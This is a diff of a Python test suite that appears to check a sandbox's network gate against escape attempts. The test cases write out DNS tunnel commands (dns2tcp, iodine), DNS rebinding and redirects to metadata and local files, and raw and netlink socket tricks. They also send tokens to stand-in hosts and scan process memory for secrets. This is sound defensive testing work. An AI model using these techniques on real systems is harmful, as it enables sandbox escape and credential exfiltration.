@@ -9,18 +9,16 @@ import re
 import select
 import shutil
 import socket
-import threading
+import time
 import unittest
 
 from attackkit import INSIDE, Attack, Capture
 from helpers import wait_until
 from internet import DNS, OTHER, OTHER6, PRIVATE, PUBLIC, PUBLIC6, Internet
 from jailkit import IS_ROOT, PLAIN_ID, World
-from service import Daemon
 
 NET = None
 ONLY = {"rules": [{"action": "allow", "domain": "allowed.test"}]}
-RAW = {"rules": [{"action": "allow", "domain": "allowed.test", "protocol": "tcp"}]}
 LOOPBACK = "loopback: a port that the gate serves"
 PROXY = 'say("198.18.0.1", 3128, %s)'
 VALUE = "s3cr3t-value-of-the-test-0123456789"
@@ -40,7 +38,9 @@ def setUpModule():
     unittest.addModuleCleanup(NET.close)
     Attack.NET = NET
     NET.zone.update({name: [address] for name, address in {**WRAPPED, **SPELLED}.items()})
-    NET.zone.update({"chain.test": ("CNAME", "second.test"), "second.test": ("CNAME", "third.test"), "third.test": [PRIVATE[0]], "round.test": ("CNAME", "second.test")})
+    NET.zone.update({"chain.test": ("CNAME", "second.test"), "second.test": ("CNAME", "third.test"), "third.test": [PRIVATE[0]], "astray.test": ("CNAME", "other.test")})
+    NET.zone.update({"host.test": ["203.0.113.1"], "second.host.test": ["203.0.113.2"], "host6.test": ["2001:db8:77::1"]})
+    NET.here.run("ip", "addr", "add", "203.0.113.2/24", "dev", "up0")
     NET.here.run("ip", "addr", "add", "192.168.88.1/24", "dev", "up0")  # the host's own network
 
 
@@ -60,21 +60,7 @@ def is_what(address):
 class Rows(Attack):
     """Mixed into a class for each kind of caller."""
 
-    USER = None
     LIMIT_SECONDS = 180
-
-    @classmethod
-    def setUpClass(cls):
-        cls.TABLE, cls.boxes = [], {}
-        cls.key = os.path.join(NET.dir, f"keys-{cls.KIND}")
-        with open(cls.key, "w", encoding="ascii") as f:
-            f.write("k1:" + "42" * 32 + "\n")
-        os.chmod(cls.key, 0o600)
-        os.chown(cls.key, cls.USER or 0, cls.USER or 0)
-        gate = {k: v for k, v in NET.environment().items() if k.startswith("BRIG_GATE_")}
-        cls.d = NET.here.inside(lambda: Daemon(f'[secrets]\nkey_file = "{cls.key}"\n[store]\nsuspicious_count = 1000\n', env=gate, user=cls.USER))
-        cls.addClassCleanup(cls.d.close)
-        cls.addClassCleanup(cls.print_table)
 
     def curl(self, network, *words, **members):
         done = self.d.run(self.box(network, **members), "curl", "-sS", "--max-time", "20", *words)
@@ -162,7 +148,7 @@ class Rows(Attack):
         outcomes = []
         for policy in (ONLY, "open"):
             outcomes = self.attack(policy, {f'get("{n}")': get(f"[{n}]" if ":" in n else n, is_what(n)) for n in numbers})
-        self.attack(ONLY, {'get("203.0.113.1")': get("203.0.113.1", "default deny")})  # the host's public address: not private, but not allowed either
+        self.attack(ONLY, {'get("203.0.113.1")': get("203.0.113.1", "default deny")})
         # another sandbox's address stands for nothing here, even where the name itself is allowed
         theirs = self.inside({"rules": [{"action": "allow", "domain": n} for n in ("other.test", "allowed.test", "www.allowed.test")]},
                              'tell(look_up("other.test", 2), look_up("allowed.test", 2), look_up("www.allowed.test", 2), look_up("www.allowed.test", 10))')
@@ -173,6 +159,25 @@ class Rows(Attack):
         untouched()
         self.nothing_left(reached=[], may=())
         self.row("N06", "host-lan", outcomes[0], get(theirs[0], nothing))
+
+    def test_N06_host_itself(self):
+        """The host's public addresses are as good as its loopback, for who comes from the host: refused, by number and by name, unless exactly that one is allowed."""
+        untouched = self.canaries(("203.0.113.1", 80), ("203.0.113.1", 443), ("203.0.113.2", 80), ("2001:db8:77::1", 80))
+        own = "%s is this host's own, and no cidr rule names it"
+        byname = {"rules": [{"action": "allow", "domain": "host.test"}, {"action": "allow", "domain": "second.host.test"}, {"action": "allow", "domain": "host6.test"},
+                            {"action": "allow", "cidr": "203.0.113.0/24"}]}
+        outcomes = self.attack("open", {'get("203.0.113.1")': get("203.0.113.1", own % "203.0.113.1"), 'get("203.0.113.2")': get("203.0.113.2", own % "203.0.113.2"),
+                                        'get("2001:db8:77::1")': get("[2001:db8:77::1]", own % "2001:db8:77::1"), 'get("host.test")': get("host.test", own % "203.0.113.1")})
+        self.attack(byname, {'get("host.test")': get("host.test", own % "203.0.113.1"), 'get("second.host.test")': get("second.host.test", own % "203.0.113.2"),
+                             'get("host6.test")': get("host6.test", own % "2001:db8:77::1"), 'tls("host.test", "host.test")': "reset", 'get("203.0.113.1")': get("203.0.113.1", own % "203.0.113.1")})
+        untouched()
+        self.nothing_left(reached=[], asked=["host.test", "second.host.test", "host6.test"], may=(DNS,))
+        self.row("N06", "host-itself", *outcomes)
+        self.inside({"rules": [{"action": "allow", "cidr": "203.0.113.1/32", "protocol": "tcp"}]}, 'tell(attempt(dial("203.0.113.1", 80).send, b"x"))')
+        with self.assertRaises(AssertionError):  # that one is reached
+            for _ in range(100):
+                untouched()
+                time.sleep(0.05)
 
     def test_N07_ipv6(self):
         v6 = {"rules": [{"action": "allow", "domain": "other.test"}, {"action": "allow", "domain": "private6.test"}, {"action": "deny", "cidr": OTHER6 + "/128"},
@@ -189,7 +194,7 @@ class Rows(Attack):
         wraps = (f"::ffff:{OTHER}", "64:ff9b::cb00:710b", "2002:cb00:710b::1")
         got = self.inside({"default": "allow", "rules": [{"action": "deny", "cidr": "203.0.113.11/32"}]}, f"tell(*[get(a) for a in {wraps!r}])")
         for said in got:
-            self.assertRegex(said, "^403 brig: .* is denied: ")
+            self.assertRegex(said, "^403 brig: .* is denied: rule 0 ")
         self.nothing_left(reached=[], asked=("other.test", "private6.test"), may=(DNS,))
         self.row("N07", "ipv6", *outcomes)
 
@@ -203,7 +208,27 @@ class Rows(Attack):
         self.assertIn(self.curl(ONLY, "--resolve", f"allowed.test:443:{PUBLIC}", "https://allowed.test/")[0], cut)
         self.assertIn(self.curl(ONLY, "--noproxy", "*", "--connect-to", f"allowed.test:443:{OTHER}:443", "https://allowed.test/")[0], cut)
         self.nothing_left(reached=[], may=())
-        self.row("N09", "ip-literal", *[o for o in outcomes if o is not True])
+        self.row("N09", "ip-literal", *outcomes)
+
+    def test_N09_name_and_port(self):
+        """What a rule opens is a name on a port: neither the name's other ports nor the port for other names."""
+        policy = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": [8443], "protocol": "tcp"}, {"action": "allow", "domain": "other.test", "ports": [80]}]}
+        first, second = "default deny; rule 0 (allow allowed.test:8443 tcp) does not match", "default deny; rule 1 (allow other.test:80) does not match"
+        outcomes = self.attack(policy, {'get("allowed.test")': get("allowed.test", first), 'get("allowed.test", "other.test")': get("allowed.test", first),
+                                        'tls("allowed.test", "allowed.test")': "reset", 'get("other.test", port=8443)': get("other.test", second, 8443), 'say("allowed.test", 22)': "ECONNREFUSED",
+                                        f'get("{PUBLIC}", "allowed.test", port=8443)': get(PUBLIC, "default deny", 8443)})
+        self.nothing_left(reached=[], may=())
+        self.row("N09", "name-and-port", *outcomes)
+
+    def test_N03_ports_of_the_gate(self):
+        """Where every port is redirected, the gate's own listeners are no way around it."""
+        policy = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": "any"}]}
+        where = ("127.0.0.1", "198.18.0.1", OTHER, "2001:2:0:ffff::1", "::1", OTHER6)
+        got = self.inside(policy, f"tell(*[say(ip, port, 'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n') for ip in {where!r} for port in (65001, 65053)])")
+        for said in got:
+            self.assertRegex(said, "^(reset|closed|ECONNREFUSED|403 brig: .* is denied: .*)$")
+        self.nothing_left(reached=[], may=())
+        self.row("N03", "the gate's ports", *dict.fromkeys(got))
 
     # ---- what is said: TLS ----
 
@@ -225,7 +250,8 @@ class Rows(Attack):
         self.capture = Capture(NET.here)
         self.attack(ONLY, {'tls(F, "allowed.test")': "tls", 'tls(F, "ALLOWED.Test")': "tls", 'say(F, 443, *[bytes([b]) for b in hello("allowed.test")], shut=False)': "tls",
                            'say(F, 443, split(hello("allowed.test"), 7), shut=False)': "tls"}, setup)
-        self.nothing_left(asked=["allowed.test"])
+        packets = self.nothing_left(asked=["allowed.test"])
+        self.assertTrue([p for p in packets if p[2] == PUBLIC and p[4] == 443], "the capture sees nothing")
         self.assertEqual(set(NET.reached), {("allowed", 443)})
         self.row("N10", "sni-spoof", *outcomes)
 
@@ -363,6 +389,218 @@ tell(direct, json.loads(os.read(r, 65536)))
         outcomes = self.attack(ONLY, cases)
         self.nothing_left(reached=[], may=())
         self.row("N31", "unix-proxy-sock", *outcomes)
+
+    # ---- names ----
+
+    def test_N21_dns_direct(self):
+        servers = ("8.8.8.8", "127.0.0.1", "127.0.0.53", DNS, "2001:4860:4860::8888", "::1", "10.0.0.1", "192.168.88.1")
+        long = ".".join(["a" * 63] * 3) + ".allowed.test"
+        cases = {**{f'dns("other.test", server="{s}")': "REFUSED" for s in servers}, **{f'dns("allowed.test", server="{s}") == F': True for s in servers},
+                 **{f'dns("allowed.test", "{k}")': "NOERROR empty" for k in ("TXT", "NULL", "MX", "SRV", "CNAME", "NS", "HTTPS", "NAPTR")},
+                 **{f'dns("data.other.test", "{k}")': "REFUSED" for k in ("TXT", "NULL", "MX", "SRV", "CNAME", "A", "AAAA", "HTTPS", "ANY")},
+                 'dns("allowed.test", "ANY")': "REFUSED", 'dns("allowed.test", "AXFR")': "REFUSED", 'dns("version.bind", "TXT", klass=3)': "REFUSED", 'dns("allowed.test", klass=255)': "REFUSED",
+                 f'dns("{long}")': "REFUSED", 'dns("secret.allowed.test")': "REFUSED", 'dns("allowed.test.other.test")': "REFUSED", 'dns("localhost")': "REFUSED", 'dns("127.1")': "REFUSED",
+                 'dns("allowed.test", count=2)': "FORMERR", 'dns("allowed.test", count=0)': "FORMERR", 'dns("allowed.test", flags=0x2100)': "NOTIMP", 'dns_tcp(question("allowed.test", count=2))': ["FORMERR"],
+                 'dns_tcp(question("allowed.test"), question("other.test"), server="8.8.8.8") == [F, "REFUSED"]': True, 'dns_tcp(question("allowed.test") + question("other.test"))': ["FORMERR"],
+                 'dns("allowed.test", more=opt(8, b"\\0\\1\\x20\\0data"), additional=1) == F': True, 'dns("other.test", more=opt(8, b"\\0\\1\\x20\\0data"), additional=1)': "REFUSED",
+                 'dns("other.test", more=opt(65001, b"d" * 400), additional=1)': "REFUSED",
+                 'say("8.8.8.8", 853)': "ECONNREFUSED", 'say("1.1.1.1", 5353)': "ECONNREFUSED", 'udp("8.8.8.8", 853, question("allowed.test"))': "ECONNREFUSED",
+                 'udp("8.8.8.8", 5353, question("allowed.test"))': "ECONNREFUSED", 'udp("224.0.0.251", 5353, question("allowed.test"))': "EINVAL", 'udp("224.0.0.252", 5355, b"x")': "EINVAL",
+                 'udp("255.255.255.255", 53, question("allowed.test"))': "EINVAL", 'udp("ff02::fb%lo", 5353, b"x")': "EINVAL",
+                 'tls("1.1.1.1", "cloudflare-dns.com")': "reset", 'tls("8.8.8.8", "dns.google")': "reset", 'tls("1.1.1.1", "allowed.test")': "reset", 'look_up("dns.google")': "EAI_AGAIN",
+                 'get("1.1.1.1", "allowed.test", path="/dns-query?dns=AAAB")': get("1.1.1.1", "default deny")}
+        self.attack(ONLY, cases, 'F = dns("allowed.test")\ndef opt(c, d): return b"\\0" + struct.pack(">HHIHHH", 41, 4096, 0, 4 + len(d), c, len(d)) + d')
+        self.nothing_left(reached=[], may=())  # not even the allowed name was asked outside: nobody dialled it
+        self.row("N21", "dns-direct", "REFUSED (rcode)", "FORMERR", "NOTIMP", "ECONNREFUSED (853, 5353)", "EINVAL (multicast)", "reset (DoH)")
+
+    def test_N21_tunnels(self):
+        """dns2tcp and iodine as their clients speak, by hand; and the clients themselves where they are installed."""
+        cases = {'dns("AAAAAAAAAAAAAAA.auth.t.other.test", "TXT")': "REFUSED", 'dns("AAAAAAAAAAAAAAA.auth.allowed.test", "TXT")': "REFUSED", 'dns("vaaaakardli.t.other.test", "NULL")': "REFUSED",
+                 'dns("yrbbba.t.other.test", "NULL")': "REFUSED", 'dns("zaaAbBcC123.allowed.test", "TXT")': "REFUSED", 'dns("vaaaakardli.allowed.test", 65399)': "REFUSED",
+                 'dns("v\\xe0\\xe1\\xe2\\xfd.allowed.test", "NULL")': "FORMERR"}
+        self.attack(ONLY, cases)
+        clients = {"dns2tcpc": ("dns2tcpc", "-z", "t.other.test", "-r", "ssh", "-l", "8822", "-d", "1", "-t", "1", "8.8.8.8"),
+                   "iodine": ("/usr/sbin/iodine", "-f", "-r", "-T", "NULL", "8.8.8.8", "t.other.test")}
+        for name, command in clients.items():
+            if shutil.which(name, path="/usr/sbin:/usr/bin"):
+                done = self.d.run(self.box(ONLY), "timeout", "5", *command)
+                self.assertNotEqual(done["outcome"]["exit_code"], 0, done)
+                self.row("N21", name, f"status {done['outcome']['exit_code']}: " + " ".join((done["stderr"] + done["stdout"]).split())[-80:])
+        self.nothing_left(reached=[], may=())
+        self.row("N21", "dns-tunnel", "REFUSED (rcode)")
+
+    def test_N22_dns_rebind(self):
+        turns, answers = [], ([PUBLIC], ["127.0.0.1"], [PRIVATE[0]], [PUBLIC], ["169.254.169.254"], ["::1"], [PRIVATE[0], PUBLIC])
+
+        def zone(kind):
+            if kind == 1:
+                turns.append(0)
+            return answers[(len(turns) - 1) % len(answers)]
+
+        NET.zone["rebind.test"] = zone
+        policy = {"rules": [{"action": "allow", "domain": "rebind.test"}]}
+        got = self.inside(policy, 'tell(*[get("rebind.test", path="/%d" % i) for i in range(21)])')
+        good = [g for g in got if g.startswith("200 allowed GET rebind.test")]
+        bad = [g for g in got if g not in good]
+        self.assertTrue(good and bad, got)
+        for said in bad:  # every answer that is not public, every time
+            self.assertRegex(said, "^403 brig: rebind.test:80 is denied: (127.0.0.1 is loopback|10.77.0.10 is private|169.254.169.254 is metadata service|::1 is loopback), and no cidr rule names it$")
+        self.assertEqual(set(NET.reached), {("allowed", 80)})
+        self.nothing_left(seen=[f"rebind.test {g.split()[-1]}" for g in good], asked=["rebind.test"], may=(DNS, PUBLIC))
+        self.row("N22", "dns-rebind", *sorted(set(bad))[:2])
+
+    def test_N24_cname_chain(self):
+        rules = [{"action": "allow", "domain": n} for n in ("chain.test", "inner.test", "astray.test")]
+        policy = {"rules": rules + [{"action": "deny", "cidr": OTHER + "/32"}, {"action": "deny", "cidr": OTHER6 + "/128"}]}
+        got = self.inside(policy, 'tell(get("chain.test"), get("inner.test"), tls("chain.test", "chain.test"), get("astray.test"), dns("third.test"), dns("other.test"))')
+        self.assertEqual(got[:3], [get("chain.test", is_what(PRIVATE[0])), get("inner.test", is_what(PRIVATE[0])), "reset"])
+        self.assertRegex(got[3], r"^403 brig: astray.test:80 is denied: rule [34] \(deny ")  # by where it leads
+        self.assertEqual(got[4:], ["REFUSED", "REFUSED"])  # what is allowed is the name, not what it is an alias of
+        self.nothing_left(reached=[], asked=["chain.test", "inner.test", "astray.test"], may=(DNS,))
+        self.row("N24", "cname-chain", got[0], got[3])
+
+    def test_N25_redirect_chain(self):
+        outcomes = []
+        for to, status in (("http://169.254.169.254/latest", "403"), ("http://other.test/", "6"), (f"http://{OTHER}/", "403"), ("http://metadata.google.internal/", "6"),
+                           (f"http://{OTHER}:8080/", "7"), ("https://10.77.0.10/", "cut"), ("file:///etc/passwd", "1"), ("gopher://allowed.test:80/_x", "1")):
+            code, said = self.curl(ONLY, "-k", "-L", "-o", "/tmp/out", "-w", "%{http_code}", f"http://allowed.test/redirect?to={to}")
+            if status == "403":
+                self.assertEqual((code, said[-3:]), (0, "403"), to)
+            else:
+                self.assertIn(code, {"6": (6,), "7": (7,), "cut": (7, 35), "1": (1,)}[status], to)
+            outcomes.append("403" if status == "403" else f"curl {code}")
+        self.assertEqual({s[2].split("?")[0] for s in NET.seen}, {"/redirect"})
+        self.assertEqual(set(NET.reached), {("allowed", 80)})
+        self.nothing_left(seen=[f"{s[1]} {s[2]}" for s in NET.seen], asked=["allowed.test"])
+        self.row("N25", "redirect-chain", *outcomes)
+
+    # ---- other sockets ----
+
+    def test_N27_netlink(self):
+        setup = """
+def change(kind, body, flags=0x605):
+    s = socket.socket(16, 3, 0)
+    s.settimeout(T)
+    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
+    return errno.errorcode.get(-struct.unpack("=i", s.recv(4096)[16:20])[0], "done")
+def dump(kind):
+    s = socket.socket(16, 3, 0)
+    s.settimeout(T)
+    s.send(struct.pack("=IHHII", 32, kind, 0x301, 1, 0) + bytes(16))
+    return struct.unpack("=H", s.recv(65536)[4:6])[0]
+"""
+        others = {f"sock(16, 3, {p})": "EPROTONOSUPPORT" for p in range(1, 23)}
+        cases = {**others, "change(16, bytes(16))": "EPERM", "change(17, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 0))": "EPERM", "change(16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1))": "EPERM",
+                 "change(20, struct.pack('=BBBBI', 2, 8, 0, 0, 1) + struct.pack('=HH4s', 8, 2, b'\\x0a\\0\\0\\1'))": "EPERM", "change(24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0))": "EPERM",
+                 "change(25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 0, 254, 2, 0), 5)": "EPERM", "change(32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0))": "EPERM",
+                 "change(36, bytes(20))": "EPERM", "socket.if_nameindex() == [(1, 'lo')]": True, "dump(18)": 16, "attempt(socket.socket().setsockopt, 0, 19, 1)": "EPERM",
+                 "attempt(socket.socket().setsockopt, 1, 36, 7)": "EPERM", "sock(2, 3, 255)": "EPERM"}
+        for policy in (ONLY, "open", "none"):
+            self.attack(policy, cases, setup)
+        self.nothing_left(reached=[], may=())
+        self.row("N27", "netlink", "EPROTONOSUPPORT", "EPERM (NEWLINK, NEWADDR, NEWROUTE, DELROUTE, NEWRULE)")
+
+    def test_N28_port_bind(self):
+        setup = """
+def bind(ip, port, kind=1, *options):
+    s = socket.socket(family(ip), kind)
+    for o in options: s.setsockopt(1, o, 1)
+    try: s.bind((ip, port)); kind == 1 and s.listen(); return "bound"
+    except OSError as e: return word(e)
+    finally: s.close()
+"""
+        ports = {"rules": [{"action": "allow", "domain": "allowed.test", "ports": [80, 8443]}]}
+        where = ("0.0.0.0", "127.0.0.1", "198.18.0.1", "203.0.113.10", "::", "::1", "::ffff:127.0.0.1")
+        options = ("", ", 2", ", 15", ", 2, 15")  # SO_REUSEADDR, SO_REUSEPORT
+        cases = {f'bind("{ip}", {port}, {kind}{o})': "EACCES" for ip in where for port, kind in ((53, 1), (53, 2), (80, 1), (443, 1)) for o in options}
+        cases.update({f'bind("{ip}", 8443, 1{o})': "EADDRINUSE" for ip in where for o in options})  # a port of the policy, above 1023
+        cases.update({f'bind("{ip}", 3128, 1{o})': "EADDRINUSE" for ip in ("0.0.0.0", "198.18.0.1", "::") for o in options})
+        cases['bind("127.0.0.1", 8000)'] = "bound"
+        outcomes = self.attack(ports, cases, setup)
+        # what listens inside is nobody's outside: neither the host's nor another sandbox's
+        answer = self.d.ask("POST", f"/v1/sandboxes/{self.box(ports)}/processes", {"argv": ["/usr/bin/python3", "-I", "-c", "import socket, time\n"
+                            "s = [socket.create_server(('0.0.0.0', p)) for p in (8001, 8002)]\nprint('up', flush=True)\ntime.sleep(1000)"]})
+        self.assertEqual(answer.status, 201, answer)
+        wait_until("it listens", lambda: self.inside(ports, 'tell(attempt(dial, "127.0.0.1", 8001))') == ["done"])
+        self.attack(ONLY, {'say("127.0.0.1", 8001)': "ECONNREFUSED", 'say("203.0.113.1", 8001)': "ECONNREFUSED"})
+
+        def from_the_host():
+            with socket.socket() as s:
+                return s.connect_ex(("127.0.0.1", 8001))
+
+        self.assertEqual(NET.here.inside(from_the_host), 111)
+        self.capture.stop()  # that was us
+        self.row("N28", "port-bind", *outcomes[:2], "ECONNREFUSED (from outside)")
+
+    def test_N30_icmp_udp_quic(self):
+        cases = {f'udp("{ip}", {port}, b"x" * 1200)': "ECONNREFUSED" for ip in (PUBLIC, "198.19.0.0", PUBLIC6, "127.0.0.1", DNS) for port in (443, 123, 9, 3128)}
+        cases.update({f'udp("{ip}", 9, b"x")': "EINVAL" for ip in ("224.0.0.1", "255.255.255.255")})
+        cases.update({f"sock{args}": outcome for args, outcome in (
+            ((2, 2, 1), "EACCES"), ((10, 2, 58), "EACCES"), ((2, 3, 1), "EPERM"), ((2, 3, 255), "EPERM"), ((10, 3, 58), "EPERM"), ((17, 3, 3), "EAFNOSUPPORT"), ((17, 2, 3), "EAFNOSUPPORT"),
+            ((40, 1, 0), "EAFNOSUPPORT"), ((2, 1, 132), "EPROTONOSUPPORT"), ((2, 5, 132), "ESOCKTNOSUPPORT"), ((2, 1, 262), "EPROTONOSUPPORT"), ((2, 2, 136), "EPROTONOSUPPORT"),
+            ((38, 5, 0), "EAFNOSUPPORT"), ((21, 5, 0), "EAFNOSUPPORT"), ((44, 3, 0), "EAFNOSUPPORT"), ((29, 3, 1), "EAFNOSUPPORT"), ((31, 3, 0), "EAFNOSUPPORT"), ((30, 1, 0), "EAFNOSUPPORT"),
+            ((43, 1, 0), "EAFNOSUPPORT"), ((2, 6, 33), "ESOCKTNOSUPPORT"))})
+        outcomes = self.attack(ONLY, cases)
+        self.attack("open", cases)
+        self.nothing_left(reached=[], may=())
+        self.row("N30", "icmp-udp-quic", *outcomes)
+
+    # ---- credentials ----
+
+    SPEND = """
+import urllib.request, urllib.error
+def spend(url, token, header="Authorization"):
+    r = urllib.request.Request(url, headers={header: "Bearer " + token})
+    try: return urllib.request.urlopen(r, timeout=T).read().decode()
+    except urllib.error.HTTPError as e: return str(e.code) + " " + e.read().decode()
+    except OSError as e: return "failed " + str(e)
+"""
+
+    def test_N33_credential_broker(self):
+        network, secrets = self.brokered("API", "allowed.test")
+        got = self.inside(network, self.SPEND + """
+token = os.environ["TOKEN"]
+memory = b""
+echoed = spend("https://allowed.test/echo?its", token)
+other, plain = spend("http://other.test/echo?other", token), spend("https://other.test/echo?tls", token)
+clear = spend("http://allowed.test/echo?clear", token)
+elsewhere = spend("https://allowed.test/echo?header", token, "X-Other")
+query = spend("https://allowed.test/echo?query=" + token, "x")
+for line in open("/proc/self/maps"):
+    where, mode = line.split()[:2]
+    if "r" in mode and "[v" not in line:
+        a, b = (int(x, 16) for x in where.split("-"))
+        with open("/proc/self/mem", "rb", 0) as f:
+            f.seek(a)
+            try: memory += f.read(b - a)
+            except OSError: pass
+half = b"s3cr3t-value-of-" + b"the-test-0123"
+tell(token=token, echoed=echoed, other=other, plain=plain, clear=clear, elsewhere=elsewhere, found=memory.count(half + b"456789"), environ=dict(os.environ))
+""", secrets=secrets)
+        self.assertTrue(got["token"].startswith("brig-secret-"), got)
+        self.assertNotIn(VALUE, json.dumps(got))
+        self.assertIn("Authorization: Bearer ", got["echoed"])
+        self.assertEqual(got["found"], 0)
+        by = {path.split("?")[1]: h.get("X-Other") or h["Authorization"] for _, _, path, h, _ in NET.seen}
+        self.assertEqual(by.pop("its"), f"Bearer {VALUE}")  # by TLS to exactly this host, in this header, and nowhere else
+        self.assertEqual(by.pop("query=" + got["token"]), "Bearer x")
+        self.assertEqual(by, {path: f"Bearer {got['token']}" for path in ("other", "tls", "clear", "header")})
+        self.assertNotIn(VALUE, self.d.text())
+        self.row("N33", "credential-broker", "placeholder " + got["token"][:16] + "...", "scrubbed echo", "plain HTTP gets the placeholder")
+
+    def test_N34_token_of_another(self):
+        network, secrets = self.brokered("MINE", "allowed.test")
+        theirs = self.inside(network, 'tell(os.environ["TOKEN"])', secrets=secrets)[0]
+        without = self.inside(network, self.SPEND + f'tell(spend("https://allowed.test/echo", "{theirs}"))')[0]
+        self.assertIn(theirs, without)  # a placeholder, and nothing else
+        _, mine = self.brokered("SECOND", "allowed.test")
+        replayed = self.inside(network, self.SPEND + f'tell(spend("https://allowed.test/echo", "{theirs}"), os.environ["TOKEN"])', secrets=mine)
+        self.assertNotEqual(replayed[1], theirs)
+        self.assertFalse([h for *_, h, _ in NET.seen if VALUE in json.dumps(h)], "another sandbox's placeholder was worth something")
+        # the proxy knows nobody: what decides is whose namespace it is
+        got = self.inside(ONLY, 'tell(' + ", ".join(PROXY % f'b"CONNECT other.test:443 HTTP/1.0\\r\\n{auth}\\r\\n"' for auth in ("", "Proxy-Authorization: Basic YTpi\\r\\n")) + ')')
+        self.assertEqual(got, [get("other.test", "default deny", 443)] * 2)
+        self.row("N34", "token-theft", "the placeholder stays one", got[0])
 
 
 @unittest.skipUnless(IS_ROOT, "needs root to make network namespaces")
